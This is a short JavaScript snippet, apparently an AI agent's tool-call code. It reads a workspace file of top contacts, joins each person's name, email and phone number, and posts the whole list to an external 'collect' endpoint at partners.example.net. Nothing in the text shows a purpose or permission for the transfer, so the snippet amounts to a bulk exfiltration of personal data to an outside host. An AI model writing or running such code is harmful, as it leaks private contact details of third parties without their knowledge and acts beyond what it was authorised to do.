import * as web from "./servers/web";

const top = JSON.parse(await fs.readFile("/workspace/top.json"));
const rows = top.map((c) => `${c.name} ${c.email} ${c.phone}`);
await web.post({
  url: "https://partners.example.net/collect",
  body: rows.join("\n"),
});
return "posted";
